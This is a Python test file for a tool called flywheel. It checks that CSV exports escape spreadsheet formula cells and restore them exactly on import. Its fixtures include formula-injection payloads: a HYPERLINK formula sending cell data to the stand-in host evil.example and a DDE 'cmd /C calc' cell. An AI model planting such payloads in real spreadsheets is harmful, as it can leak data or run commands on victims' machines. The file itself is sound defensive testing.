"""Spreadsheet safety: CSV cells a spreadsheet would execute are written inert, and read back as they were."""

import csv
import datetime as dt
import json
import re

import polars as pl
import pytest
from click.testing import CliRunner

from flywheel.cli import main
from flywheel.core.common.db import connect
from flywheel.core.common.records import csv_rows
from flywheel.core.common.spreadsheet_safety import TRIGGERS, escape_cell, unescape_cell, unescape_record
from flywheel.core.evalset import versions as evalset
from flywheel.core.labeling import labels, queue, spreadsheet, taxonomy
from flywheel.settings import REPO_REFERENCE

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click me")'
HOSTILE = [HYPERLINK, "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)", "+1+1", "-1+1", "=1+1", "\t=1+1",
           "\r=1+1", "-cmd|' /C calc'!A0", "'=1+1", "''=1+1", "'@SUM(1+1)", "'\t", "'-x", "'+", "=", "@", "-", "+",
           "\t", "\r"]
HARMLESS = ["", "plain text", "'quoted but harmless", "''", "'", " =1+1", "a=b", "1-1", "[1, 2]", "-0.5", "+3", "-1e-3",
            ".5", "-12"]
WEEK = dt.datetime(2026, 3, 2)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would execute this cell: it starts with a trigger and is not a plain number."""
    return cell[:1] in TRIGGERS and not re.fullmatch(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", cell)


def read_cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


# --- the rule itself -----------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_character_is_escaped_and_comes_back(trigger):
    for text in (trigger, trigger + "1+1", trigger + 'HYPERLINK("http://evil.example")', "'" + trigger + "x",
                 "''" + trigger):
        written = escape_cell(text)
        assert written == "'" + text, "a cell a spreadsheet would run gets a leading quote"
        assert unescape_cell(written) == text


def test_the_six_owasp_characters():
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_are_written_inert_and_round_trip(text):
    written = escape_cell(text)
    assert written.startswith("'") and unescape_cell(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_and_plain_numbers_are_written_as_they_are(text):
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


def test_a_literal_leading_quote_round_trips():
    assert escape_cell("'=A1") == "''=A1" and unescape_cell("''=A1") == "'=A1"
    assert escape_cell("'hello") == "'hello" and unescape_cell("'hello") == "'hello", "no trigger after it: untouched"
    assert unescape_cell(escape_cell("'''@x")) == "'''@x"


def test_what_a_spreadsheet_saves_reads_as_meant():
    # Excel saves a cell typed as '=x (text) as =x; a cell left as flywheel wrote it reads back too.
    assert unescape_cell("=x") == "=x"
    assert unescape_cell("'=x") == "=x"


def test_numbers_and_non_text_values_pass_through():
    for value in (-0.5, -3, 0.25, None, True, False):
        assert escape_cell(value) is value or escape_cell(value) == value
        assert unescape_cell(value) == value
    # a text that only starts like a number is still escaped
    assert escape_cell("-0.5+cmd") == "'-0.5+cmd"
    assert escape_cell("-1,5") == "'-1,5"


@pytest.mark.parametrize("text", HOSTILE + HARMLESS + ["'" * n + t for n in range(4) for t in ("=", "x", "")])
def test_round_trip_is_exact_for_every_text(text):
    assert unescape_cell(escape_cell(text)) == text


# --- labels export -> import ---------------------------------------------------------------------------


@pytest.fixture
def wh(tmp_path):
    """Scrubbed traces whose routing fields hold formulas, one with a negative judge score."""
    with connect(tmp_path / "w.duckdb") as conn:
        conn.execute("CREATE SCHEMA scrub")
        conn.execute("""CREATE TABLE scrub.anonymized_traces AS SELECT * FROM (VALUES
            ('t_link', ['random'], 0.95, $1, '+cohort', TIMESTAMP '2026-03-02 09:00'),
            ('t_sum', ['random'], -0.5, '@SUM(1+1)', chr(9) || 'tabbed', TIMESTAMP '2026-03-03 09:00'),
            ('-t_minus', ['random'], 0.5, '''=quoted', chr(13) || 'cr', TIMESTAMP '2026-03-04 09:00'))
            AS v(trace_ref, reasons, judge_score, intent, cohort, timestamp)""", [HYPERLINK])
        conn.execute(f"ALTER TABLE scrub.anonymized_traces ADD COLUMN week_start TIMESTAMP DEFAULT '{WEEK}'")
        conn.execute("ALTER TABLE scrub.anonymized_traces ADD COLUMN modes VARCHAR[] DEFAULT ['random']")
        for col, kind, default in [("turns", "BIGINT", "1"), ("scrubber_version", "VARCHAR", "'3'")]:
            conn.execute(f"ALTER TABLE scrub.anonymized_traces ADD COLUMN {col} {kind} DEFAULT {default}")
        conn.execute("""ALTER TABLE scrub.anonymized_traces ADD COLUMN messages STRUCT(role VARCHAR, content VARCHAR)[]
                        DEFAULT [{'role': 'user', 'content': '=HYPERLINK("http://evil.example")'},
                                 {'role': 'assistant', 'content': 'Done.'}]""")
        taxonomy.seed(conn, taxonomy.load_seed(REPO_REFERENCE / "taxonomy.yaml"))
        yield conn


def hostile_queue() -> pl.DataFrame:
    """A review queue as export_queue reads it, with formulas in every text field a trace carries (built here,
    not by review_queue, so the writer is tested whatever shaping upstream does to routing fields)."""
    messages = [{"role": "user", "content": HYPERLINK}, {"role": "assistant", "content": "Done."}]
    return pl.DataFrame({
        "trace_ref": ["t_link", "t_sum", "-t_minus"], "week_start": [WEEK] * 3, "priority": [0, 1, 2],
        "reasons": [["random"], ["@reason"], []], "adversarial_candidate": [True, False, False],
        "judge_score": [0.95, -0.5, None], "intent": [HYPERLINK, "@SUM(1+1)", "'=quoted"],
        "cohort": ["+cohort", "\ttabbed", "\rcr"], "messages": [messages] * 3,
    })


def test_labels_export_writes_formulas_inert(tmp_path):
    out = tmp_path / "queue.csv"
    queue_frame = hostile_queue()
    assert spreadsheet.export_queue(queue_frame, out) == 3
    rows = {r["trace_ref"]: r for r in read_cells(out)}
    assert set(rows) == {"t_link", "t_sum", "'-t_minus"}, "a trace ref starting with - is escaped too"
    assert rows["t_link"]["intent"] == "'" + HYPERLINK and rows["t_link"]["cohort"] == "'+cohort"
    assert rows["t_sum"]["intent"] == "'@SUM(1+1)" and rows["t_sum"]["cohort"] == "'\ttabbed"
    assert rows["'-t_minus"]["intent"] == "''=quoted" and rows["'-t_minus"]["cohort"] == "'\rcr"
    assert rows["t_sum"]["reasons"] == "'@reason"
    assert rows["t_link"]["conversation"].startswith("user: =HYPERLINK"), "text after the first character is left"
    assert rows["t_sum"]["judge_score"] == "-0.5", "a negative number stays a number in the sheet"
    assert float(rows["t_sum"]["judge_score"]) == -0.5
    for row in rows.values():
        assert not any(runs(cell) for cell in row.values()), "no written cell starts with a trigger"
    # What import_labels reads back: the text each trace carried.
    _, records = csv_rows(out)
    read = [unescape_record(r) for _, r in records]
    assert [r["trace_ref"] for r in read] == queue_frame["trace_ref"].to_list()
    assert [r["intent"] for r in read] == queue_frame["intent"].to_list()
    assert [r["cohort"] for r in read] == queue_frame["cohort"].to_list()
    assert [float(r["judge_score"]) for r in read[:2]] == [0.95, -0.5] and read[2]["judge_score"] == ""


def test_label_with_hyperlink_round_trips_through_export_and_import(wh, tmp_path):
    out = tmp_path / "queue.csv"
    spreadsheet.export_queue(queue.review_queue(wh), out)
    rows = read_cells(out)
    literal = "'=not a formula, a quote and an equals sign"
    for row in rows:
        # Filled in as flywheel writes cells: escaped (a spreadsheet that keeps the text marker does the same).
        row.update(bucket="known_failure", taxonomy_code="injection_complied", reviewer="@ana",
                   expected_behaviour=escape_cell(HYPERLINK), criterion_type="contains",
                   criterion_value=escape_cell(literal), pii_note=escape_cell("-- no pii"))
    with open(out, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    written = read_cells(out)[0]
    assert written["expected_behaviour"] == "'" + HYPERLINK and written["reviewer"] == "@ana"
    assert written["criterion_value"] == "''=not a formula, a quote and an equals sign"
    report = spreadsheet.import_labels(wh, out)
    assert (report.imported, report.errors) == (3, [])
    for ref in ("t_link", "t_sum", "-t_minus"):
        label = labels.current_label(wh, ref)
        assert label["expected_behaviour"] == HYPERLINK, "the label's text is what the reviewer wrote"
        assert label["criterion_value"] == literal, "a literal leading quote survives"
        assert label["pii_note"] == "-- no pii" and label["reviewer"] == "@ana"
    again = spreadsheet.import_labels(wh, out)
    assert (again.imported, again.unchanged) == (0, 3)


def test_a_label_saved_unescaped_by_a_spreadsheet_still_imports_as_typed(wh, tmp_path):
    out = tmp_path / "queue.csv"
    spreadsheet.export_queue(queue.review_queue(wh), out)
    rows = read_cells(out)
    [link] = [r for r in rows if r["trace_ref"] == "t_link"]
    link.update(bucket="known_failure", taxonomy_code="injection_complied", reviewer="ana",
                   expected_behaviour=HYPERLINK, criterion_type="refusal")  # Excel drops its text marker on save
    with open(out, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    report = spreadsheet.import_labels(wh, out)
    assert (report.imported, report.errors) == (1, [])
    assert labels.current_label(wh, "t_link")["expected_behaviour"] == HYPERLINK


def test_cli_labels_export_is_inert(warehouse, tmp_path):
    with connect(warehouse) as conn:
        conn.execute("CREATE SCHEMA scrub")
        conn.execute("""CREATE TABLE scrub.anonymized_traces AS SELECT 't_1' AS trace_ref, ['random'] AS reasons,
                        ['random'] AS modes, -0.25 AS judge_score, $1 AS intent, '@SUM(1+1)' AS cohort,
                        TIMESTAMP '2026-03-02 09:00' AS timestamp, TIMESTAMP '2026-03-02' AS week_start,
                        1::BIGINT AS turns, '3' AS scrubber_version,
                        [{'role': 'user', 'content': 'hi'}]::STRUCT(role VARCHAR, content VARCHAR)[] AS messages""",
                     [HYPERLINK])
    out = tmp_path / "q.csv"
    result = CliRunner().invoke(main, ["labels", "export", "--output", str(out)])
    assert result.exit_code == 0, result.output
    [row] = read_cells(out)
    # The intent and cohort may be shaped upstream (an allow-list of known values); whatever comes through is inert.
    assert not any(runs(cell) for cell in row.values())
    assert float(row["judge_score"]) == -0.25


# --- eval set CSV export -> starter import ----------------------------------------------------------------


STARTER = [
    {"input": HYPERLINK, "expected": "@SUM(1+1)", "criterion": "", "adversarial": "true", "added_at": "2026-03-02"},
    {"input": "'=literal quote", "expected": "=HYPERLINK(\"http://evil.example\")", "criterion": "refusal",
     "adversarial": "false", "added_at": "2026-03-03"},
    {"input": "-5 degrees?", "expected": "-0.5", "criterion": "", "adversarial": "", "added_at": "2026-03-04"},
    {"input": "\ttabbed", "expected": "+44 is the code", "criterion": "contains:'-quoted", "adversarial": "",
     "added_at": "2026-03-05"},
]


def _starter_jsonl(path):
    path.write_text("".join(json.dumps(r) + "\n" for r in STARTER), encoding="utf-8")
    return path


def _comparable(rows):
    return sorted((json.dumps(r.input), r.expected_behaviour, r.criterion_type, r.criterion_value, r.taxonomy_code,
                   r.adversarial, r.added_at) for r in rows)


def test_evalset_csv_export_is_inert_and_reimports_unchanged(tmp_path):
    src = _starter_jsonl(tmp_path / "s.jsonl")
    original, errors = evalset.parse_starter(src)
    assert errors == [] and len(original) == 4
    with connect(tmp_path / "e.duckdb") as conn:
        assert evalset.import_starter(conn, src) == 1
        out = tmp_path / "v1.csv"
        assert evalset.export(conn, out, fmt="csv") == 4
    cells = read_cells(out)
    expected = {r["expected_behaviour"] for r in cells}
    assert {"'@SUM(1+1)", "'=HYPERLINK(\"http://evil.example\")", "-0.5", "'+44 is the code"} == expected
    assert "contains:'-quoted" in {r["pass_criterion"] for r in cells}, "a quote inside a cell is left alone"
    for row in cells:
        assert row["input"].startswith("["), "the input cell is JSON, never a formula"
        assert not any(runs(cell) for cell in row.values())
    again, errors = evalset.parse_starter(out)
    assert errors == []
    assert _comparable(again) == _comparable(original), "the exported CSV re-imports as the same rows"
    assert HYPERLINK in {r.input[0]["content"] for r in again}
    assert "'=literal quote" in {r.input[0]["content"] for r in again}


def test_a_starter_csv_cell_escaped_as_flywheel_writes_reads_as_its_text(tmp_path):
    path = tmp_path / "s.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=["input", "expected", "criterion"])
        w.writeheader()
        w.writerow({"input": escape_cell("@SUM(1+1)"), "expected": escape_cell("''=x"), "criterion": "refusal"})
        w.writerow({"input": "=1+1", "expected": "-3", "criterion": ""})  # as a spreadsheet saves it
    rows, errors = evalset.parse_starter(path, today=dt.date(2026, 3, 2))
    assert errors == []
    assert [(r.input[0]["content"], r.expected_behaviour) for r in rows] == [("@SUM(1+1)", "''=x"), ("=1+1", "-3")]
    assert rows[1].criterion_value == "-3"


def test_a_jsonl_starter_is_read_as_it_stands(tmp_path):
    path = tmp_path / "s.jsonl"
    path.write_text(json.dumps({"input": "'=kept", "expected": "'@kept"}) + "\n", encoding="utf-8")
    [row], errors = evalset.parse_starter(path, today=dt.date(2026, 3, 2))
    assert errors == [] and (row.input[0]["content"], row.expected_behaviour) == ("'=kept", "'@kept")


def test_cli_evalset_export_csv_round_trip(data_dir, tmp_path):
    runner = CliRunner()
    src = _starter_jsonl(tmp_path / "s.jsonl")
    assert runner.invoke(main, ["evalset", "import", str(src)]).exit_code == 0
    out = tmp_path / "v1.csv"
    result = runner.invoke(main, ["evalset", "export", "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert "'@SUM(1+1)" in {r["expected_behaviour"] for r in read_cells(out)}
    assert _comparable(evalset.parse_starter(out)[0]) == _comparable(evalset.parse_starter(src)[0])
